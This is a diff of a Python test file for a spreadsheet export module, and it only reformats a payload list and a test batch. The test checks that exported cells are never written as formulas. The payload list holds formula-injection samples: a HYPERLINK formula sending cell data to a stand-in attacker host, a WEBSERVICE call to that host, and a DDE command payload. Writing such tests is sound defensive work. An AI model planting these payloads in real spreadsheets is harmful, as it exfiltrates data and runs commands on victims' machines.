@@ -20,8 +20,13 @@ from openpyxl.cell.cell import ILLEGAL_CHARACTERS_RE
 from dxdesk.core.exchange import workbook as wbk
 from dxdesk.core.exchange.workbook_write import ExportRefused, _put_text, looks_like_formula
 
-PAYLOADS = ['=HYPERLINK("http://evil.example/?d="&A1,"Bấm vào đây")',
-            '=WEBSERVICE("http://evil.example/")', "cmd|' /C calc'!A0", "1+1", "SUM(A1:A9)"]  # fmt: skip
+PAYLOADS = [
+    '=HYPERLINK("http://evil.example/?d="&A1,"Bấm vào đây")',
+    '=WEBSERVICE("http://evil.example/")',
+    "cmd|' /C calc'!A0",
+    "1+1",
+    "SUM(A1:A9)",
+]
 CONTROL = [chr(c) for c in range(0x00, 0x20)] + ["\x7f"]
 SPACES = [" ", "\u00a0", "\u3000", "\u200b", "\ufeff", "\t", "\r", "\n"]
 STARTS = ["=", "+", "-", "@", "\uff1d", "\uff0b", "\uff0d", "\uff20", ""]
@@ -65,9 +70,17 @@ def test_the_export_refuses_what_it_cannot_write_and_writes_no_formula(tmp_path)
     control character is refused (issue 13 item 5), every other one is plain text."""
     texts = _corpus()
     batch = {
-        "task": [{"code": f"NV{i:05d}", "text": text, "blocker": text, "status": "not_started",
-                  "deadline": date(2024, 1, 1)} for i, text in enumerate(texts)],
-    }  # fmt: skip
+        "task": [
+            {
+                "code": f"NV{i:05d}",
+                "text": text,
+                "blocker": text,
+                "status": "not_started",
+                "deadline": date(2024, 1, 1),
+            }
+            for i, text in enumerate(texts)
+        ],
+    }
     with pytest.raises(ExportRefused) as refused:
         wbk.write_workbook(tmp_path / "x.xlsx", batch)
     bad = {i for i, t in enumerate(texts) if ILLEGAL_CHARACTERS_RE.search(t)}
